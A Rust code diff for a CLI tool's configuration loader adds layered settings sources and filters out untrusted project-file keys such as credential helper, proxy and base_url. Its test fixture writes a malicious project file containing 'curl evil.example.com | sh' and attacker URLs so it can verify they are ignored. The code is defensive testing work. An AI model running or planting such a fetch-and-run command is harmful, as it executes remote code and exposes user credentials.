@@ -1,10 +1,16 @@
 extern crate directories;
 use clap::ArgMatches;
-use config::{Config, Environment, File};
+use config::{
+  Config, ConfigError, Environment, File, FileFormat, FileSourceFile, Map, Source, Value, ValueKind,
+};
 use directories::ProjectDirs;
-use log::{debug, trace};
+use log::{debug, trace, warn};
 use miette::{bail, IntoDiagnostic, Result};
-use std::path::Path;
+use std::{
+  env,
+  ffi::OsString,
+  path::{Path, PathBuf},
+};
 
 pub fn settings(
   qualifier: &str,
@@ -12,7 +18,41 @@ pub fn settings(
   application: &str,
   env_prefix: &str,
 ) -> Result<Config> {
-  let mut settings_builder = Config::builder();
+  settings_with_defaults(qualifier, organisation, application, env_prefix, &[])
+}
+
+/// Like [settings] with some default values.
+///
+/// The settings are merged from these sources, the last ones override the first ones:
+/// 1. the default values,
+/// 2. the system file `/etc/<application>/settings.toml` (unix only),
+/// 3. the user file `settings.toml` in the configuration directory of the application,
+/// 4. the project file `.<application>.toml`, the nearest one from the current directory
+///    or its parents. It can only set the settings of [PROJECT_SETTINGS]: the other ones are
+///    ignored,
+/// 5. the file given by the `--config` argument,
+/// 6. the environment variables prefixed by `env_prefix`,
+/// 7. the arguments (read by [get_settings]).
+pub fn settings_with_defaults(
+  qualifier: &str,
+  organisation: &str,
+  application: &str,
+  env_prefix: &str,
+  defaults: &[(&str, &str)],
+) -> Result<Config> {
+  let mut settings_builder = Config::builder()
+    .set_default("application", application)
+    .into_diagnostic()?;
+  for (key, value) in defaults {
+    settings_builder = settings_builder
+      .set_default(*key, *value)
+      .into_diagnostic()?;
+  }
+  if cfg!(unix) {
+    let path = Path::new("/etc").join(application).join("settings.toml");
+    debug!("Try to load config file: {}", path.display());
+    settings_builder = settings_builder.add_source(toml_file(&path).required(false));
+  }
   if let Some(proj_dirs) = ProjectDirs::from(qualifier, organisation, application) {
     let path = Path::new(proj_dirs.config_dir()).join("settings.toml");
     let path = path.to_str().unwrap();
@@ -20,29 +60,257 @@ pub fn settings(
     settings_builder = settings_builder
       .set_default("configuration_path", path)
       .into_diagnostic()?;
+    settings_builder = settings_builder
+      .set_default("cache_path", proj_dirs.cache_dir().to_str())
+      .into_diagnostic()?;
 
     debug!("Try to load config file: {}", &path);
   }
+  if let Some(path) = env::current_dir()
+    .ok()
+    .and_then(|dir| project_file(&dir, application))
+  {
+    debug!("Load project config file: {}", path.display());
+    settings_builder = settings_builder.add_source(ProjectFile(path));
+  }
+  if let Some(path) = config_arg(env::args_os()) {
+    debug!("Load config file: {}", path.display());
+    if !path.is_file() {
+      bail!("Config file {} not found", path.display());
+    }
+    settings_builder = settings_builder.add_source(toml_file(&path));
+  }
   settings_builder = settings_builder.add_source(Environment::with_prefix(env_prefix));
   settings_builder.build().into_diagnostic()
 }
 
+fn toml_file(path: &Path) -> File<FileSourceFile, FileFormat> {
+  File::from(path).format(FileFormat::Toml)
+}
+
+/// The settings of a project file, for it and for its profiles.
+///
+/// A project file comes with the repository it's in. The credential helper, the TLS, proxy and
+/// authentication settings and the `base_url` are only read from the system and user files, or
+/// the `--config` file: a cloned repository can't run commands or receive the user's credentials.
+pub const PROJECT_SETTINGS: [&str; 5] = [
+  "default_profile",
+  "timeout",
+  "retries",
+  "cache",
+  "cache_ttl",
+];
+
+/// A project file, without the settings that are not in [PROJECT_SETTINGS].
+#[derive(Clone, Debug)]
+struct ProjectFile(PathBuf);
+
+impl Source for ProjectFile {
+  fn clone_into_box(&self) -> Box<dyn Source + Send + Sync> {
+    Box::new(self.clone())
+  }
+
+  fn collect(&self) -> Result<Map<String, Value>, ConfigError> {
+    let mut settings = toml_file(&self.0).collect()?;
+    let path = self.0.display();
+    settings.retain(|key, value| match (key.as_str(), &mut value.kind) {
+      ("profile", ValueKind::Table(profiles)) => {
+        for (profile, settings) in profiles.iter_mut() {
+          if let ValueKind::Table(settings) = &mut settings.kind {
+            settings.retain(|key, _| {
+              let allowed = key != "default_profile" && PROJECT_SETTINGS.contains(&key.as_str());
+              if !allowed {
+                warn!("{path}: the project file can't set profile.{profile}.{key}");
+              }
+              allowed
+            });
+          }
+        }
+        true
+      }
+      (key, _) => {
+        let allowed = PROJECT_SETTINGS.contains(&key);
+        if !allowed {
+          warn!("{path}: the project file can't set {key}");
+        }
+        allowed
+      }
+    });
+    Ok(settings)
+  }
+}
+
+/// The nearest `.<application>.toml` in `dir` or its parents.
+fn project_file(dir: &Path, application: &str) -> Option<PathBuf> {
+  let name = format!(".{application}.toml");
+  dir
+    .ancestors()
+    .map(|dir| dir.join(&name))
+    .find(|path| path.is_file())
+}
+
+/// The value of the `--config` argument. The settings are read before parsing the arguments.
+fn config_arg(args: impl Iterator<Item = OsString>) -> Option<PathBuf> {
+  let mut args = args.skip(1);
+  while let Some(arg) = args.next() {
+    if arg == "--" {
+      break;
+    } else if arg == "--config" {
+      return args.next().map(PathBuf::from);
+    } else if let Some(path) = arg.to_str().and_then(|arg| arg.strip_prefix("--config=")) {
+      return Some(PathBuf::from(path));
+    }
+  }
+  None
+}
+
+/// Read the argument `arg`, else the setting of the profile, else the setting.
+/// The setting may have no argument.
 pub fn get_settings(settings: &Config, matches: &ArgMatches, arg: &str) -> Result<String> {
-  if let Some(value) = matches.get_one::<String>(arg) {
+  if let Some(value) = matches.try_get_one::<String>(arg).ok().flatten() {
     Ok(value.clone())
-  } else if let Some(profile) = matches.get_one::<String>("profile") {
+  } else {
+    get_profile_settings(settings, matches, arg, Config::get_string)
+  }
+}
+
+/// Like [get_settings] for the settings set with a flag (ie. `--insecure`).
+pub fn get_flag_settings(settings: &Config, matches: &ArgMatches, arg: &str) -> Result<bool> {
+  if matches.try_get_one::<bool>(arg).ok().flatten() == Some(&true) {
+    Ok(true)
+  } else {
+    get_profile_settings(settings, matches, arg, Config::get_bool)
+  }
+}
+
+fn get_profile_settings<T>(
+  settings: &Config,
+  matches: &ArgMatches,
+  arg: &str,
+  get: impl Fn(&Config, &str) -> Result<T, ConfigError>,
+) -> Result<T> {
+  if let Some(profile) = matches.get_one::<String>("profile") {
     trace!("profile: {profile}");
-    if let Ok(value) = settings.get_string(&format!("profile.{profile}.{arg}")) {
+    if let Ok(value) = get(settings, &format!("profile.{profile}.{arg}")) {
       Ok(value)
-    } else if let Ok(value) = settings.get_string(arg) {
+    } else if let Ok(value) = get(settings, arg) {
       trace!("profile {profile} not found. Fallback to default profile.");
       Ok(value)
     } else {
       bail!("Setting not found")
     }
-  } else if let Ok(value) = settings.get_string(arg) {
+  } else if let Ok(value) = get(settings, arg) {
     Ok(value)
   } else {
     bail!("Setting not found")
   }
 }
+
+#[cfg(test)]
+mod tests {
+  use super::{config_arg, project_file, toml_file, ProjectFile};
+  use config::Config;
+  use std::{ffi::OsString, fs};
+
+  fn args(args: &[&str]) -> impl Iterator<Item = OsString> {
+    args
+      .iter()
+      .map(OsString::from)
+      .collect::<Vec<_>>()
+      .into_iter()
+  }
+
+  #[test]
+  fn test_config_arg() {
+    assert_eq!(config_arg(args(&["app", "posts"])), None);
+    assert_eq!(
+      config_arg(args(&["app", "--config", "a.toml", "posts"])),
+      Some("a.toml".into())
+    );
+    assert_eq!(
+      config_arg(args(&["app", "--config=b.toml"])),
+      Some("b.toml".into())
+    );
+    assert_eq!(config_arg(args(&["app", "--", "--config", "a.toml"])), None);
+  }
+
+  #[test]
+  fn test_project_file() {
+    let root = std::env::temp_dir().join(format!("crud-api-project-{}", std::process::id()));
+    let nested = root.join("src").join("module");
+    fs::create_dir_all(&nested).unwrap();
+    assert_eq!(project_file(&nested, "myapp"), None);
+    fs::write(root.join(".myapp.toml"), "").unwrap();
+    assert_eq!(
+      project_file(&nested, "myapp"),
+      Some(root.join(".myapp.toml"))
+    );
+    fs::write(nested.join(".myapp.toml"), "").unwrap();
+    assert_eq!(
+      project_file(&nested, "myapp"),
+      Some(nested.join(".myapp.toml"))
+    );
+    fs::remove_dir_all(root).unwrap();
+  }
+
+  #[test]
+  fn test_project_settings() {
+    let dir = std::env::temp_dir().join(format!("crud-api-settings-{}", std::process::id()));
+    fs::create_dir_all(&dir).unwrap();
+    let user = dir.join("settings.toml");
+    fs::write(
+      &user,
+      r#"base_url = "https://api.example.com"
+[profile.dev]
+base_url = "http://localhost:8080"
+"#,
+    )
+    .unwrap();
+    let project = dir.join(".myapp.toml");
+    fs::write(
+      &project,
+      r#"base_url = "https://evil.example.com"
+credential_helper = "curl evil.example.com | sh"
+insecure = true
+proxy = "http://evil.example.com:3128"
+ca_cert = "evil.pem"
+auth_token = "stolen"
+timeout = 5
+default_profile = "dev"
+[profile.dev]
+base_url = "https://evil.example.com"
+credential_helper = "curl evil.example.com | sh"
+retries = 2
+"#,
+    )
+    .unwrap();
+
+    let settings = Config::builder()
+      .add_source(toml_file(&user))
+      .add_source(ProjectFile(project))
+      .build()
+      .unwrap();
+    assert_eq!(
+      settings.get_string("base_url").unwrap(),
+      "https://api.example.com"
+    );
+    assert_eq!(
+      settings.get_string("profile.dev.base_url").unwrap(),
+      "http://localhost:8080"
+    );
+    for key in [
+      "credential_helper",
+      "insecure",
+      "proxy",
+      "ca_cert",
+      "auth_token",
+      "profile.dev.credential_helper",
+    ] {
+      assert!(settings.get_string(key).is_err(), "{key}");
+    }
+    assert_eq!(settings.get_int("timeout").unwrap(), 5);
+    assert_eq!(settings.get_string("default_profile").unwrap(), "dev");
+    assert_eq!(settings.get_int("profile.dev.retries").unwrap(), 2);
+    fs::remove_dir_all(dir).unwrap();
+  }
+}